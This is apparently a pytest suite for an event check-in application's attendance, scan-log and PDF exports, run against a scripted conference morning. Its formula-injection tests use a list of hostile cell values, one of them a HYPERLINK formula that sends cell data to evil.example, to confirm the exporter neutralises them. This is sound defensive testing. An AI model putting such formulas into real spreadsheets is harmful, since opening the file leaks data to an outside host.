"""Attendance exports of a scripted morning, read back as a spreadsheet program or a funder would read them."""
from __future__ import annotations

import csv
import gc
import subprocess
from datetime import datetime

import openpyxl
import pytest

from checkin.domain.model import Attendee, Status, new_id
from checkin.i18n import UserError
from checkin.services.exports import ExportRequest, export
from checkin.storage import repositories as repo
from tests.reports.morning import CANCELLED, PLENARY, WORKSHOP, build_event, play_morning, scripted_morning


@pytest.fixture(scope="module")
def morning(tmp_path_factory):
    m = scripted_morning(tmp_path_factory.mktemp("morning") / "event.checkin")
    yield m
    m.db.dispose()


def _export(m, tmp_path, kind, fmt, **options):
    path = tmp_path / f"{kind}.{fmt}"
    result = export(m.db, ExportRequest(kind, fmt, path, **options))
    assert result.path == path and path.exists()
    return path, result


def _sheet_rows(path):
    workbook = openpyxl.load_workbook(path)
    sheet = workbook.worksheets[0]
    return workbook, sheet, [list(row) for row in sheet.iter_rows(values_only=True)]


def _by_name(header, rows):
    family, given = header.index("Family name"), header.index("Given name")
    return {(r[given], r[family]): dict(zip(header, r)) for r in rows}


def test_attendance_xlsx_has_real_local_times_a_frozen_header_and_filters(morning, tmp_path):
    path, result = _export(morning, tmp_path, "attendance", "xlsx")
    workbook, sheet, rows = _sheet_rows(path)
    header, body = rows[0], rows[1:]
    assert header == ["Family name", "Given name", "Organisation", "City", "Country", "Category", "Entrance",
                      PLENARY, WORKSHOP, "Site visit: regional crisis centre"]
    # 29 active people and the walk-in; Camille Petit (cancelled, refused at the door) is left out.
    assert len(body) == result.rows == 30
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:J31"
    assert sheet["A1"].font.b
    people = _by_name(header, body)
    assert ("Camille", "Petit") not in people
    helene = people[("Hélène", "Lefèvre")]
    # Brussels is UTC+1 in March: the 08:00 local check-in is stored as 07:00 UTC and exported as 08:00.
    assert helene["Entrance"] == datetime(2026, 3, 20, 8, 0)
    assert helene[PLENARY] == datetime(2026, 3, 20, 9, 30)  # first entry, not the 10:40 re-entry
    assert helene["Country"] == "France"
    assert people[("Łukasz", "Żółkiewski")]["Entrance"] == datetime(2026, 3, 20, 8, 3)
    assert people[("Sofia", "García López")][WORKSHOP] == datetime(2026, 3, 20, 12, 5)  # refused at 11:30, in at 12:05
    assert people[("Chloé", "Bernard")]["Entrance"] is None  # her scan was annulled
    assert people[("Zoé", "Walker")]["Entrance"] == datetime(2026, 3, 20, 9, 20)
    entrance_cell = sheet.cell(row=2 + [r[1] for r in body].index("Hélène"), column=7)
    assert entrance_cell.is_date and entrance_cell.number_format == "yyyy-mm-dd hh:mm"
    assert [r[0] for r in body][:3] == ["Bernard", "de Vries", "Dubois"]  # family-name order, case ignored
    about = dict((label, value) for label, value in workbook["About"].iter_rows(values_only=True))
    assert about["Event"] == "Urban Safety Forum" and about["Times are in"] == "Europe/Brussels"
    assert sheet.column_dimensions["C"].width >= len("City of Cluj-Napoca")


def test_attendance_csv_has_a_bom_the_delimiter_and_accents(morning, tmp_path):
    path, _result = _export(morning, tmp_path, "attendance", "csv", delimiter=";", fields=["last_name", "first_name", "city"])
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))
    assert rows[0] == ["Family name", "Given name", "City", "Entrance", PLENARY, WORKSHOP, "Site visit: regional crisis centre"]
    people = {(r[1], r[0]): r for r in rows[1:]}
    assert people[("Łukasz", "Żółkiewski")][2:4] == ["Kraków", "2026-03-20 08:03"]
    assert people[("Γιώργος", "Παπαδόπουλος")][2] == "Αθήνα"
    assert people[("Олена", "Петренко")][3:5] == ["2026-03-20 08:09", "2026-03-20 09:33"]
    assert people[("Chloé", "Bernard")][3:] == ["", "", "", ""]
    assert len(rows) == 31


def test_attendance_for_one_session(morning, tmp_path):
    path, result = _export(morning, tmp_path, "attendance", "csv", session="night-time ECONOMY")
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0][-2:] == ["Entrance", WORKSHOP]
    # Registered: people 0–11; person 10 was refused once, then came in.
    assert result.rows == 12
    came = [r for r in rows[1:] if r[-1]]
    assert len(came) == 11


def test_scan_log_has_every_scan_with_its_annulment(morning, tmp_path):
    path, result = _export(morning, tmp_path, "scans", "xlsx")
    _workbook, _sheet, rows = _sheet_rows(path)
    header, body = rows[0], rows[1:]
    assert header == ["Time", "Checkpoint", "Direction", "Verdict", "Reason", "Station", "Operator", "Family name",
                      "Given name", "Organisation", "Scanned code", "Annulled at", "Annuls the scan of"]
    assert len(body) == result.rows == 70  # 26 at the entrance, 21 plenary, 13 workshop, 10 coach
    scans = [dict(zip(header, r)) for r in body]
    annulled = [s for s in scans if s["Annulled at"] is not None]
    assert [(s["Time"], s["Family name"], s["Station"], s["Annulled at"]) for s in annulled] == [
        (datetime(2026, 3, 20, 9, 12), "Bernard", "Desk 2", datetime(2026, 3, 20, 9, 13))
    ]
    [annulment] = [s for s in scans if s["Verdict"] == "annulment"]
    assert (annulment["Reason"], annulment["Annuls the scan of"], annulment["Operator"]) == (
        "undone at the station", datetime(2026, 3, 20, 9, 12), "Karim")
    refused = [(s["Checkpoint"], s["Family name"], s["Reason"]) for s in scans if s["Verdict"] == "refused"]
    assert refused == [("Entrance", "Petit", "registration cancelled"), (WORKSHOP, "García López", "session full")]
    repeat = [s for s in scans if s["Reason"] == "already checked in" and s["Checkpoint"] == "Entrance"]
    assert [(s["Time"], s["Verdict"]) for s in repeat] == [(datetime(2026, 3, 20, 9, 10), "let in with a warning")]
    outs = [s for s in scans if s["Direction"] == "out"]
    assert len(outs) == 5 + 1 + 4  # plenary exits, one workshop exit, back from the visit
    assert [s["Time"] for s in scans] == sorted(s["Time"] for s in scans)


def test_scan_log_of_one_session(morning, tmp_path):
    path, result = _export(morning, tmp_path, "scans", "csv", session=PLENARY)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert result.rows == 21 and {r[1] for r in rows[1:]} == {PLENARY}
    assert rows[1][0] == "2026-03-20 09:30:00"


def test_no_shows_and_walk_ins(morning, tmp_path):
    path, result = _export(morning, tmp_path, "no-shows", "csv")
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert result.rows == 8
    assert {r[0] for r in rows[1:]} == {"Bernard", "Weber", "Popescu", "Georgiev", "O'Brien", "Jansen", "Virtanen", "Lambert"}

    path, result = _export(morning, tmp_path, "no-shows", "csv", session=WORKSHOP)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    # Luca Rossi (person 11) registered for the workshop and never came in; he did arrive at 08:33.
    assert [(r[0], r[-1]) for r in rows[1:]] == [("Rossi", "2026-03-20 08:33")]

    path, result = _export(morning, tmp_path, "walk-ins", "xlsx")
    _workbook, _sheet, rows = _sheet_rows(path)
    assert result.rows == 1
    walk_in = dict(zip(rows[0], rows[1]))
    assert (walk_in["Given name"], walk_in["Entrance"]) == ("Zoé", datetime(2026, 3, 20, 9, 20))


def _pdf_text(path) -> str:
    return subprocess.run(["pdftotext", "-layout", str(path), "-"], check=True, capture_output=True, text=True).stdout


def _pages(path) -> int:
    info = subprocess.run(["pdfinfo", str(path)], check=True, capture_output=True, text=True).stdout
    return int(next(line.split()[-1] for line in info.splitlines() if line.startswith("Pages:")))


def test_pdf_exports_carry_names_in_every_script_and_page_numbers(morning, tmp_path):
    path, _result = _export(morning, tmp_path, "attendance", "pdf")
    text = _pdf_text(path)
    for expected in ("Urban Safety Forum", "Attendance", "Żółkiewski", "Παπαδόπουλος", "Петренко", "Şahin", "08:03"):
        assert expected in text
    pages = _pages(path)
    assert f"Page 1 of {pages}" in text and f"Page {pages} of {pages}" in text
    subprocess.run(["pdftoppm", "-r", "40", "-png", "-f", "1", "-l", "1", str(path), str(tmp_path / "page")], check=True)
    assert (tmp_path / "page-1.png").stat().st_size > 5_000

    path, _result = _export(morning, tmp_path, "scans", "pdf")
    text = _pdf_text(path)
    assert "Scan log" in text and "annulment" in text and "session full" in text


def test_a_wide_attendance_pdf_keys_long_titles_and_prints_the_sessions_in_parts(tmp_path):
    from datetime import timedelta

    from checkin.domain.model import Session, SessionKind

    m = play_morning(build_event(tmp_path / "event.checkin"))
    with m.db.unit() as s:
        for i in range(45):
            start = m.sessions[PLENARY].starts_at + timedelta(minutes=10 * i)
            repo.add_session(s, Session(new_id(), f"Parallel workshop number {i + 1}", SessionKind.WORKSHOP, start, start + timedelta(hours=1)))
    path = tmp_path / "wide.pdf"
    export(m.db, ExportRequest("attendance", "pdf", path))
    text = _pdf_text(path)
    assert "Part 1 of" in text and "Part 2 of" in text
    assert text.count("Żółkiewski") >= 2  # the people's columns repeat in each part
    # Long session titles head their columns as numbers, explained above each part.
    for title in ("1 Opening plenary", "14 Night-time economy", "48 Parallel workshop number 45"):
        assert title in text
    assert "08:03" in text and "09:30" in text  # Hélène's entrance and plenary times under their numbers
    m.db.dispose()


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturned"]


@pytest.fixture
def hostile_event(tmp_path):
    m = build_event(tmp_path / "event.checkin")
    people = [
        Attendee(id=new_id(), first_name=name, last_name=f"Hostile {i}", organisation=name, city="Lille", country="FR",
                 status=Status.REGISTERED)
        for i, name in enumerate(HOSTILE)
    ]
    people.append(Attendee(id=new_id(), first_name="Bell\x07", last_name="Control", organisation="Nul\x00l"))
    with m.db.unit() as s:
        repo.insert_attendees(s, people)
    yield m
    m.db.dispose()


def test_formulas_are_neutralised_in_xlsx(hostile_event, tmp_path):
    path, _result = _export(hostile_event, tmp_path, "attendance", "xlsx", fields=["last_name", "first_name", "organisation"])
    _workbook, sheet, rows = _sheet_rows(path)
    given = {r[0]: r[1] for r in rows[1:]}
    for i, name in enumerate(HOSTILE):
        # XML reads a carriage return back as a line feed; what matters is the apostrophe before it.
        assert given[f"Hostile {i}"] == "'" + name.replace("\r", "\n")
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"
    assert given["Control"] == "Bell"  # a control character Excel would refuse is dropped


def test_formulas_are_neutralised_in_csv(hostile_event, tmp_path):
    path, _result = _export(hostile_event, tmp_path, "attendance", "csv", fields=["last_name", "first_name", "organisation"])
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    given = {r[0]: (r[1], r[2]) for r in rows[1:]}
    for i, name in enumerate(HOSTILE):
        assert given[f"Hostile {i}"] == ("'" + name, "'" + name)
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_exports_refuse_bad_requests_and_leave_no_file(morning, tmp_path):
    cases = [
        (dict(kind="attendance", format="csv", path=tmp_path / "a.csv", delimiter="|"), "delimiter"),
        (dict(kind="attendance", format="xlsx", path=tmp_path / "missing" / "a.xlsx"), "folder does not exist"),
        (dict(kind="attendance", format="xlsx", path=tmp_path), "it is a folder"),
        (dict(kind="attendance", format="xlsx", path=tmp_path / "a.xlsx", session="Closing dinner"), "no session called"),
        (dict(kind="attendance", format="xlsx", path=tmp_path / "a.xlsx", fields=["last_name", "shoe_size"]), "no column called “shoe_size”"),
    ]
    for request, message in cases:
        with pytest.raises(UserError, match=message):
            export(morning.db, ExportRequest(**request))
    assert sorted(p.name for p in tmp_path.iterdir()) == []


# openpyxl's streaming sheet writer complains when garbage-collected after an interrupted save.
@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_a_failed_export_keeps_the_previous_file(morning, tmp_path, monkeypatch):
    path = tmp_path / "attendance.xlsx"
    path.write_bytes(b"the previous export")

    def broken(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("openpyxl.Workbook.save", broken)
    with pytest.raises(UserError, match="No space left on device"):
        export(morning.db, ExportRequest("attendance", "xlsx", path))
    assert path.read_bytes() == b"the previous export"
    assert [p.name for p in tmp_path.iterdir()] == ["attendance.xlsx"]
    gc.collect()  # here, where the warning is expected, not in a later test


def test_export_reads_postgresql_too(db_url, tmp_path):
    m = play_morning(build_event(db_url))
    path = tmp_path / "attendance.csv"
    result = export(m.db, ExportRequest("attendance", "csv", path))
    assert result.rows == 30
    assert "2026-03-20 08:03" in path.read_text(encoding="utf-8-sig")
    m.db.dispose()


def test_cancelled_people_who_came_in_stay_in_the_matrix(tmp_path):
    m = scripted_morning(tmp_path / "event.checkin")
    helene = m.people[0]
    with m.db.unit() as s:
        repo.update_attendee(s, helene.with_changes(status=Status.CANCELLED))
    path = tmp_path / "a.csv"
    result = export(m.db, ExportRequest("attendance", "csv", path))
    assert result.rows == 30 and "Lefèvre" in path.read_text(encoding="utf-8-sig")
    assert m.people[CANCELLED].last_name not in path.read_text(encoding="utf-8-sig")
    m.db.dispose()
